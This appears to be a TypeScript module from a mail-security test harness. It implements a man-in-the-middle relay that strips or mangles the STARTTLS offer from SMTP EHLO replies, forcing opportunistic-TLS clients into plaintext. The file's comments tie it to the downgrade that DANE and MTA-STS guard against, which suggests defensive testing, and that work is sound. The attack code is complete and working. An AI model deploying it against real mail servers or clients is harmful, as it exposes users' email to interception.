import type { Socket } from 'node:net';
import type { Endpoint, Network } from '../../net/index.js';

/**
 * `remove` deletes the line from the EHLO reply; `mangle` overwrites it, as firewalls do.
 */
export type StripMethod = 'remove' | 'mangle';

/**
 * Returns an on-path attacker who forwards everything except the STARTTLS offer. A client
 * with opportunistic TLS then sends in plaintext: the downgrade that DANE and MTA-STS
 * prevent (RFC 7672 §1.3.1).
 *
 * @param target address of the real server
 */
export function stripStarttls(
  network: Network,
  target: Endpoint,
  stripping: StripMethod,
): (socket: Socket) => void {
  return (client) => {
    void network.dial(target).then((dialled) => {
      if (!dialled.ok) return client.destroy();
      const server = dialled.connection.stream;
      client.pipe(server);
      let pending = '';
      server.on('data', (bytes: Buffer) => {
        pending += bytes.toString('latin1');
        const endOffset = pending.lastIndexOf('\n') + 1;
        client.write(strip(pending.slice(0, endOffset), stripping), 'latin1');
        pending = pending.slice(endOffset);
      });
      server.on('end', () => client.end()).on('error', () => client.destroy());
      client.on('close', () => dialled.connection.close());
    });
  };
}

function strip(text: string, stripping: StripMethod): string {
  if (stripping === 'mangle') return text.replace(/STARTTLS/gi, 'XXXXXXXA');
  const passed: string[] = [];
  for (const replyLine of text.split('\r\n')) {
    const last = passed.length - 1;
    if (/^250-STARTTLS$/i.test(replyLine)) continue;
    // RFC 5321 §4.2.1: the last line has a space after its code, so the removal of the
    // last line moves the space to the line before.
    if (/^250 STARTTLS$/i.test(replyLine))
      passed[last] = (passed[last] ?? '').replace(/^250-/, '250 ');
    else passed.push(replyLine);
  }
  return passed.join('\r\n');
}
